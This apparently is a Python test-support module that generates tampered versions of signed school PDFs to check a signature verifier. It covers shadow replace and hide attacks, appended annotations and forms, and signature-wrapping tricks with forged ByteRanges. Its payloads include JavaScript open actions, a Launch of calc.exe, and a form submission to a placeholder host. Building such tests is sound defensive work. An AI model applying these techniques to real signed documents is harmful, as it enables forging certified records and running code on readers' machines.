"""Attacks by one more revision: incremental saving, shadows, annotations, forms, scripts, replaced resources.

After "1 Trillion Dollar Refund" (ISA, USF, SWA), "Shadow Attacks" and "Breaking the Specification: PDF Certification"
(EAA, SSA); tests/README.md names them in full.
"""

from __future__ import annotations

import io
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any

import pypdf
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from tests.support.attacks.material import END, RANGE, Attacks, Material, appended, stream

_NEW = 900
"""Number of the objects that an attack adds; the files have about 450."""
_WORDS = b"BT /f0 24 Tf 100 700 Td <0003> Tj ET 0.9 0.9 1 rg 60 400 300 200 re f"


def _with(body: bytes, entries: bytes) -> bytes:
    """Return a dictionary with `entries` written last, which is what readers that take the last of two see."""
    at = body.rindex(b">>")
    return body[:at] + b" " + entries + b" " + body[at:]


def changed(
    material: Material,
    name: str,
    entries: bytes,
    more: Mapping[int, bytes] | None = None,
    *,
    of: bytes | None = None,
) -> bytes:
    """Return the file, or that of its revisions that is given, with entries added to an object, and more objects."""
    objects = {material.numbers[name]: _with(material.body(name), entries), **(more or {})}
    return appended(of or material.pdf, objects)


def instead(
    material: Material,
    name: str,
    content: bytes,
    more: Mapping[int, bytes] | None = None,
    *,
    of: bytes | None = None,
    table: bool = True,
) -> bytes:
    """Return the same with an object replaced."""
    return appended(of or material.pdf, {material.numbers[name]: content, **(more or {})}, table=table)


_ANNOTATIONS = {
    "free-text": b"/Subtype /FreeText /DA (/Helv 20 Tf 0 g) /Contents (10.0)",
    "stamp": b"/Subtype /Stamp /Name /Approved",
    "redaction": b"/Subtype /Redact /IC [1 1 1]",
    "square-over-a-mark": b"/Subtype /Square /IC [1 1 1] /C [1 1 1]",
    "link": b"/Subtype /Link /A << /S /URI /URI (https://example.invalid/) >>",
    "file": b"/Subtype /FileAttachment /FS << /F (other.pdf) >>",
    "widget": b"/Subtype /Widget /FT /Tx /T (diem) /V (10,0)",
    "screen": b"/Subtype /Screen /A << /S /Rendition >>",
    "empty-signature-field": b"/Subtype /Widget /FT /Sig /T (KhongTen)",
    "second-seal-field": b"/Subtype /Widget /FT /Sig /T (NhaTruong)",
}


def _annotated(material: Material, annotation: bytes) -> bytes:
    more = {_NEW: b"<< /Type /Annot /Rect [60 60 500 700] /F 4 %b >>" % annotation}
    return changed(material, "page", b"/Annots [%d 0 R]" % _NEW, more)


def _in_the_form(material: Material, field: bytes) -> bytes:
    more = {_NEW: b"<< /Type /Annot /Subtype /Widget /Rect [60 60 200 90] %b >>" % field}
    return changed(material, "form", b"/Fields [%d 0 R]" % _NEW, more)


_HIDDEN_LAYER = b"/OCProperties << /OCGs [%d 0 R] /D << /OFF [%d 0 R] >> >>" % (_NEW, _NEW)
_LAYER: Mapping[int, bytes] = {_NEW: b"<< /Type /OCG /Name (Trang that) >>"}

SHADOWS: Attacks = {
    # Shadow attacks, "replace": what was signed is replaced by what lay in wait, or by what is new.
    "replaced-contents": lambda m: instead(m, "contents", stream(_WORDS)),
    "replaced-page": lambda m: changed(m, "page", b"/Contents %d 0 R" % _NEW, {_NEW: stream(_WORDS)}),
    "replaced-page-tree": lambda m: instead(m, "pages", b"<< /Type /Pages /Kids [] /Count 0 >>"),
    "replaced-font-file": lambda m: instead(m, "font-file", stream(b"\0\1\0\0")),
    "replaced-font": lambda m: instead(
        m, "font", b"<< /Type /Font /Subtype /Type1 /BaseFont /ZapfDingbats >>"
    ),
    "replaced-to-unicode": lambda m: instead(m, "to-unicode", stream(b"begincmap endcmap")),
    "replaced-metadata": lambda m: instead(m, "metadata", stream(b"<x/>", b"/Type /Metadata")),
    "replaced-information": lambda m: instead(m, "information", b"<< /Title (Khac) >>"),
    "replaced-attachment": lambda m: instead(m, "attachment", stream(b"{}", b"/Type /EmbeddedFile")),
    "replaced-attachment-of-another-student": lambda m: instead(
        m, "attachment", stream(_data_of(m.other), b"/Type /EmbeddedFile")
    ),
    "replaced-seal-panel": lambda m: instead(m, "seal-panel", stream(b"", b"/Type /XObject")),
    "replaced-form": lambda m: instead(m, "form", b"<< /Fields [] /SigFlags 0 >>"),
    "replaced-catalog": lambda m: instead(
        m, "catalog", b"<< /Type /Catalog /Pages %d 0 R >>" % m.numbers["pages"]
    ),
    "replaced-field-of-the-seal": lambda m: changed(m, "seal-field", b"/V null"),
    "replaced-value-of-the-seal": lambda m: instead(m, "seal", b"<< /Type /Sig >>"),
    "freed-page-contents": lambda m: _freed(m, "contents"),
    # Shadow attacks, "hide": a layer or a form lies over what was signed.
    "hidden-layer": lambda m: changed(m, "catalog", _HIDDEN_LAYER, _LAYER),
    "hidden-by-a-form-object": lambda m: changed(
        m, "page", b"/Contents [%d 0 R %d 0 R]" % (m.numbers["contents"], _NEW), {_NEW: stream(_WORDS)}
    ),
    "other-root": lambda m: _other_root(m, table=True),
    "other-root-without-table": lambda m: _other_root(m, table=False),
}

ANNOTATIONS: Attacks = {
    **{f"annotation-{name}": partial(_annotated, annotation=text) for name, text in _ANNOTATIONS.items()},
    "form-with-a-text-field": partial(_in_the_form, field=b"/FT /Tx /T (ten) /V (Nguyen Van B)"),
    "form-with-an-empty-signature": partial(_in_the_form, field=b"/FT /Sig /T (NhaTruong)"),
    "form-that-asks-for-appearances": lambda m: changed(m, "form", b"/NeedAppearances true"),
    "form-with-an-xfa-page": lambda m: changed(m, "form", b"/XFA %d 0 R" % _NEW, {_NEW: stream(b"<xdp/>")}),
    "form-with-other-defaults": lambda m: changed(m, "form", b"/DR << /Font << >> >> /DA (/f0 1 Tf)"),
    "script-when-opened": lambda m: changed(
        m, "catalog", b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"
    ),
    "script-when-printed": lambda m: changed(
        m, "catalog", b"/AA << /WP << /S /JavaScript /JS (this.print\\(\\)) >> >>"
    ),
    "script-of-a-page": lambda m: changed(m, "page", b"/AA << /O << /S /JavaScript /JS (1) >> >>"),
    "script-by-name": lambda m: changed(
        m, "catalog", b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (1) >>] >> >>"
    ),
    "launch-of-a-program": lambda m: changed(m, "catalog", b"/OpenAction << /S /Launch /F (calc.exe) >>"),
    "form-sent-elsewhere": lambda m: changed(
        m, "catalog", b"/OpenAction << /S /SubmitForm /F (https://example.invalid/) >>"
    ),
}


def _data_of(pdf: bytes) -> bytes:
    names = pypdf.PdfReader(io.BytesIO(pdf)).attachments
    return next(iter(names.values()))[0]


def _freed(material: Material, name: str) -> bytes:
    pdf = appended(material.pdf, {})
    row = b"%d 1\n0000000000 00001 f \n" % material.numbers[name]
    at = pdf.rindex(b"trailer\n")
    return pdf[:at] + row + pdf[at:]


def _other_root(material: Material, *, table: bool) -> bytes:
    """Return the file with a catalog of an object of its own, which shows one other page."""
    objects = {
        _NEW: b"<< /Type /Catalog /Pages %d 0 R >>" % (_NEW + 1),
        _NEW + 1: b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % (_NEW + 2),
        _NEW + 2: b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>"
        % (_NEW + 1, _NEW + 3),
        _NEW + 3: stream(_WORDS),
    }
    trailer = b"<< /Root %d 0 R /Size %d >>" % (_NEW, _NEW + 4)
    return appended(material.pdf, objects, table=table, trailer=trailer)


def _without_trailer(material: Material) -> bytes:
    return appended(material.pdf, {_NEW: stream(_WORDS)}).replace(b"trailer\n<<", b"trailes\n<<")


def _signed_over(material: Material, numbers: Callable[[int], bytes]) -> bytes:
    """Add a signature value whose range claims to cover the new end of the file (SWA, ISA)."""
    cms = material.signatures[-1].cms.hex().encode()
    pdf = material.pdf
    value = b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /Contents <%b> /ByteRange [%b] >>"
    made = appended(pdf, {_NEW: value % (cms, b"0 1 2 3".ljust(40))})
    return RANGE.sub(
        lambda match: match[0] if match.start() < len(pdf) else b"/ByteRange [" + numbers(len(made)) + b"]",
        made,
    )


def _wrapped(material: Material) -> bytes:
    """Move what the seal covers behind the gap to the end, with other objects in between (SWA)."""
    before, after, length = _numbers(material)
    tail = material.pdf[after : after + length]
    between = appended(b"", {_NEW: stream(_WORDS)}, table=False)
    moved = material.pdf[:after] + b" >>\nendobj\n" + between + tail
    start = len(moved) - length
    written = b"/ByteRange [0 %d %d %d]" % (before, start, length)
    return RANGE.sub(lambda match: match[0] if match.start() < before else written, moved)


def _wrapped_in_the_padding(material: Material) -> bytes:
    """Shorten the padding of the seal's gap and write objects where it was, all lengths kept (SWA)."""
    _, after, _ = _numbers(material)
    objects = appended(b"", {_NEW: stream(_WORDS)}, table=False)
    return material.pdf[: after - len(objects) - 1] + b">" + objects + material.pdf[after:]


def _numbers(material: Material) -> tuple[int, int, int]:
    _, before, after, length = (int(word) for word in RANGE.findall(material.pdf)[-1].split())
    return before, after, length


def _by_pyhanko(material: Material, change: Callable[[Any], None]) -> bytes:
    writer = IncrementalPdfFileWriter(io.BytesIO(material.pdf), strict=False)
    change(writer)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def _new_title(writer: Any) -> None:
    writer.root["/Lang"] = generic.TextStringObject("en")
    writer.update_root()


def _by_pypdf(material: Material) -> bytes:
    writer = pypdf.PdfWriter(io.BytesIO(material.pdf), incremental=True)
    writer.add_metadata({"/Title": "Khac"})
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


INCREMENTS: Attacks = {
    "increment-empty": lambda m: appended(m.pdf, {}),
    "increment-of-an-unused-object": lambda m: appended(m.pdf, {_NEW: b"<< /A 1 >>"}),
    "increment-without-table": lambda m: instead(m, "contents", stream(_WORDS), table=False),
    "increment-without-table-but-an-end": lambda m: (
        instead(m, "contents", stream(_WORDS), table=False) + b"startxref\n0\n" + END
    ),
    "increment-without-trailer": _without_trailer,
    "increment-with-the-old-table": lambda m: (
        instead(m, "contents", stream(_WORDS), table=False) + m.pdf[m.pdf.rindex(b"startxref\n") :]
    ),
    "increment-with-the-seal-value-again": lambda m: appended(m.pdf, {_NEW: m.body("seal")}),
    "increment-by-pyhanko": partial(_by_pyhanko, change=_new_title),
    "increment-by-pypdf": _by_pypdf,
    "increment-signed-by-a-copy": lambda m: _signed_over(m, lambda n: b"0 10 20 %d" % (n - 20)),
    "increment-signed-by-a-huge-range": lambda m: _signed_over(m, lambda _: b"0 99999999 99999999 99999999"),
    "increment-signed-by-no-range": lambda m: _signed_over(m, lambda _: b""),
    "wrapped-behind-the-gap": _wrapped,
    "wrapped-in-the-padding": _wrapped_in_the_padding,
    "comment-with-a-range-appended": lambda m: m.pdf + b"%/ByteRange [0 1 2 3]\n",
    "nine-ranges": lambda m: m.pdf + b"%/ByteRange [0 1 2 3]\n" * 9,
    "a-million-ranges": lambda m: m.pdf + b"/ByteRange[" * 800_000,
}
